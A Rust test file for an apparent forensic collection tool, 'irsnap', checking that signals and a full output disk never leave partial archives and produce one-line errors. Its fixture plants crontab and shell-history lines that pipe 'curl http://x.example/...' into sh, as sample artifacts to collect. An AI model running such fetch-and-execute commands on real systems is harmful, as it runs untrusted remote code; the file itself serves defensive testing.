//! Signals at any moment, and an output that fills up: the run never dies from the signal,
//! never leaves a `.partial` behind, and says in one line what happened.

use crate::harness::{Archive, RootBuilder, bin};
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// A small offline root: enough for every file-based collector to do a little work.
fn small_root() -> RootBuilder {
    let r = RootBuilder::new();
    r.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
        .write("etc/hostname", b"sig-test\n")
        .write(
            "etc/crontab",
            b"* * * * * root /usr/bin/x /\xc3\xa9:\\x\n*/5 * * * * root curl http://x.example/a | sh\n",
        )
        .write("root/.bash_history", b"ls\ncurl http://x.example/b | sh\n")
        .write("tmp/a.sh", b"#!/bin/sh\necho hi\n");
    r
}

fn partials(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.ends_with(".partial"))
                .collect()
        })
        .unwrap_or_default()
}

fn archives(dir: &Path) -> Vec<std::path::PathBuf> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.path())
                .filter(|p| p.extension().is_some_and(|x| x == "zip"))
                .collect()
        })
        .unwrap_or_default()
}

/// `irsnap collect` with SIGINT and SIGTERM blocked from `fork` to `exec`: the mask is
/// inherited across exec, so a signal sent while the dynamic loader still runs (before
/// `main`, a window no program can guard) waits until irsnap's first instruction installs
/// its handlers and unblocks them. Everything after that first instruction is irsnap's.
fn spawn_blocked(args: &[&str]) -> std::process::Child {
    let mut cmd = Command::new(bin());
    cmd.args(args).stdout(Stdio::null()).stderr(Stdio::piped());
    // SAFETY: only async-signal-safe calls between fork and exec.
    unsafe {
        cmd.pre_exec(|| {
            let mut set: libc::sigset_t = std::mem::zeroed();
            libc::sigemptyset(&mut set);
            libc::sigaddset(&mut set, libc::SIGINT);
            libc::sigaddset(&mut set, libc::SIGTERM);
            libc::sigprocmask(libc::SIG_BLOCK, &set, std::ptr::null_mut());
            Ok(())
        });
    }
    cmd.spawn().unwrap()
}

fn kill(pid: u32, sig: libc::c_int) {
    // SAFETY: kill(2) on a child we spawned and have not reaped.
    unsafe {
        libc::kill(pid as libc::pid_t, sig);
    }
}

#[test]
fn a_signal_at_any_moment_never_kills_and_never_leaves_debris() {
    let root = small_root();
    let work = tempfile::tempdir().unwrap();
    // A fixed sequence of delays over 0–200 ms, denser at the start where the run sets up.
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    let runs = 40;
    let mut early = 0;
    let mut with_archive = 0;
    for i in 0..runs {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let delay_us = if i % 4 == 0 { x % 20_000 } else { x % 200_000 };
        let out = work.path().join(format!("out{i}"));
        let mut child = spawn_blocked(&[
            "collect",
            "--root",
            root.path().to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
            "--quiet",
        ]);
        if i % 2 == 1 {
            // Half the runs: a signal in the first 50 ms after the archive exists.
            let t0 = Instant::now();
            while partials(&out).is_empty() && t0.elapsed() < Duration::from_secs(20) {
                std::thread::sleep(Duration::from_micros(200));
            }
            std::thread::sleep(Duration::from_micros(delay_us / 4));
        } else {
            std::thread::sleep(Duration::from_micros(delay_us));
        }
        kill(
            child.id(),
            if i % 3 == 0 {
                libc::SIGINT
            } else {
                libc::SIGTERM
            },
        );
        let status = child.wait().unwrap();
        let mut stderr = String::new();
        std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut stderr).unwrap();
        assert_eq!(
            status.signal(),
            None,
            "run {i} (signal after {delay_us} µs) was killed by the signal"
        );
        let code = status.code().unwrap();
        assert!([0, 2, 4].contains(&code), "run {i}: exit {code}: {stderr}");
        assert!(partials(&out).is_empty(), "run {i}: {:?}", partials(&out));
        assert!(!stderr.contains("panicked"), "run {i}: {stderr}");
        let found = archives(&out);
        if found.is_empty() {
            // Before the archive existed: exit 4, one clear line, nothing left behind.
            assert_eq!(code, 4, "run {i}: no archive but exit {code}: {stderr}");
            assert!(
                stderr.contains("interrupted before collection started"),
                "run {i}: {stderr}"
            );
            assert_eq!(stderr.trim().lines().count(), 1, "run {i}: {stderr}");
            assert!(
                !out.exists(),
                "run {i}: the output directory was left behind"
            );
            early += 1;
        } else {
            let mut a = Archive::open(&found[0]);
            let m = a.manifest();
            if code == 4 {
                assert_eq!(m["status"], "interrupted", "run {i}");
            }
            with_archive += 1;
        }
    }
    eprintln!("{early} runs ended before the archive, {with_archive} with one");
    assert_eq!(early + with_archive, runs);
    assert!(early > 0 && with_archive > 0, "both endings are exercised");
}

/// A process whose image is a huge sparse file keeps image hashing busy, so signals land in
/// the middle of the collection.
struct Busy {
    child: std::process::Child,
    _work: tempfile::TempDir,
    profile: std::path::PathBuf,
}

impl Busy {
    fn new() -> Busy {
        let work = tempfile::tempdir().unwrap();
        let big = work.path().join("bigsleep");
        std::fs::copy("/bin/sleep", &big).unwrap();
        let f = std::fs::OpenOptions::new().write(true).open(&big).unwrap();
        f.set_len(8 << 30).unwrap();
        drop(f);
        let child = Command::new(&big).arg("60").spawn().unwrap();
        let profile = work.path().join("p.toml");
        std::fs::write(
            &profile,
            "name = \"big\"\ndescription = \"d\"\n[collectors.processes]\nmax_image_hash_size = \"16 GiB\"\n[collectors.network]\n",
        )
        .unwrap();
        Busy {
            child,
            _work: work,
            profile,
        }
    }
}

impl Drop for Busy {
    fn drop(&mut self) {
        self.child.kill().ok();
        self.child.wait().ok();
    }
}

fn wait_for_partial(out: &Path) {
    let t0 = Instant::now();
    while partials(out).is_empty() {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "no .partial appeared"
        );
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(50));
}

#[test]
fn a_second_signal_finishes_at_once_a_third_gives_up_cleanly() {
    for signals in [2, 3] {
        let busy = Busy::new();
        let work = tempfile::tempdir().unwrap();
        let out = work.path().join("out");
        let mut child = spawn_blocked(&[
            "collect",
            "--profile",
            busy.profile.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
            "--quiet",
        ]);
        wait_for_partial(&out);
        for _ in 0..signals {
            kill(child.id(), libc::SIGTERM);
            std::thread::sleep(Duration::from_millis(2));
        }
        let status = child.wait().unwrap();
        let mut stderr = String::new();
        std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut stderr).unwrap();
        assert_eq!(status.signal(), None, "{signals} signals: killed");
        assert_eq!(status.code(), Some(4), "{signals} signals: {stderr}");
        assert!(
            partials(&out).is_empty(),
            "{signals} signals: .partial left"
        );
        let found = archives(&out);
        match signals {
            2 => {
                // Either still finishing on the first (a fast machine) or at once: a valid
                // archive marked interrupted, either way.
                assert_eq!(found.len(), 1, "{stderr}");
                let v = Command::new(bin())
                    .args(["verify", found[0].to_str().unwrap()])
                    .output()
                    .unwrap();
                assert_eq!(v.status.code(), Some(0), "{v:?}");
                let m = Archive::open(&found[0]).manifest();
                assert_eq!(m["status"], "interrupted");
            }
            _ => {
                // Three signals may also come after the archive was already finished; what
                // never happens is a half-written file.
                assert!(found.len() <= 1);
                if found.is_empty() {
                    assert!(stderr.contains("nothing was kept"), "{stderr}");
                }
            }
        }
        drop(busy);
    }
}

/// An output volume that fills up: the file size limit (RLIMIT_FSIZE) stands in for a full
/// disk, on any machine and without root. The run fails with one line that says what to do,
/// and leaves neither an archive nor a `.partial`.
#[test]
fn a_full_output_volume_fails_in_one_line_and_keeps_nothing() {
    let root = small_root();
    // Random bytes do not compress: 6 MiB of them must reach the output.
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let blob: Vec<u8> = (0..6 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect();
    let mut script = b"#!/bin/sh\n".to_vec();
    script.extend_from_slice(&blob);
    root.write("tmp/big.sh", &script);
    let work = tempfile::tempdir().unwrap();
    let profile = work.path().join("p.toml");
    std::fs::write(
        &profile,
        "name = \"t\"\ndescription = \"d\"\n[archive]\nkeep_free = 0\n[collectors.temp_scripts]\n[collectors.scheduled_tasks]\n",
    )
    .unwrap();
    let out = work.path().join("out");
    let mut cmd = Command::new(bin());
    cmd.args([
        "collect",
        "--root",
        root.path().to_str().unwrap(),
        "--profile",
        profile.to_str().unwrap(),
        "-o",
        out.to_str().unwrap(),
    ]);
    // SAFETY: setrlimit and signal are async-signal-safe; SIGXFSZ ignored so that writes past
    // the limit fail with EFBIG instead of killing the process.
    unsafe {
        cmd.pre_exec(|| {
            let lim = libc::rlimit {
                rlim_cur: 2 << 20,
                rlim_max: 2 << 20,
            };
            libc::setrlimit(libc::RLIMIT_FSIZE, &lim);
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            Ok(())
        });
    }
    let o = cmd.output().unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("output volume full after") && stderr.contains("-o elsewhere"),
        "{stderr}"
    );
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    assert!(!stderr.contains("ZipWriter"), "{stderr}");
    assert!(partials(&out).is_empty(), "{:?}", partials(&out));
    assert!(archives(&out).is_empty());
}

/// The same on a real full file system (tmpfs, when the test may mount one): ENOSPC.
#[test]
fn a_real_full_tmpfs_keeps_nothing() {
    let work = tempfile::tempdir().unwrap();
    let mnt = work.path().join("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    let mounted = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=2m", "tmpfs"])
        .arg(&mnt)
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !mounted {
        eprintln!("SKIPPED: cannot mount a tmpfs here (not root?); the RLIMIT test covers it");
        return;
    }
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(&self.0).status();
        }
    }
    let _guard = Unmount(mnt.clone());
    // Records alone outgrow the volume: 60,000 cron lines with random arguments.
    let root = small_root();
    let mut x: u64 = 0x2545_F491_4F6C_DD1D;
    let mut crontab = String::new();
    for i in 0..60_000 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        crontab.push_str(&format!(
            "* * * * * root /usr/bin/job{i} --key {x:016x}{:016x}\n",
            x.rotate_left(17)
        ));
    }
    root.write("etc/crontab", crontab.as_bytes());
    let profile = work.path().join("p.toml");
    std::fs::write(
        &profile,
        "name = \"t\"\ndescription = \"d\"\n[archive]\nkeep_free = 0\n[collectors.scheduled_tasks]\nmax_parse_size = \"64 MiB\"\nmax_copy_size = \"1 KiB\"\n",
    )
    .unwrap();
    let out = mnt.join("out");
    let o = Command::new(bin())
        .args([
            "collect",
            "--root",
            root.path().to_str().unwrap(),
            "--profile",
            profile.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("output volume full after"), "{stderr}");
    assert!(partials(&out).is_empty());
    assert!(archives(&out).is_empty());
}
